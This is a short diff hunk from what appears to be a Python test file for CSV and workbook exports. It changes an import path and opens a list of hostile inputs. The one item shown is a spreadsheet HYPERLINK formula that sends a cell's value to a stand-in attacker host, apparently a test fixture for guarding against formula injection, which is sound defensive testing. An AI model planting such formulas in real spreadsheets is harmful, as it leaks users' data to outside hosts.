@@ -6,7 +6,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
-from zhujing.exports import csv_text, workbook
+from core.exports import csv_text, workbook
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&B3,"点此")',
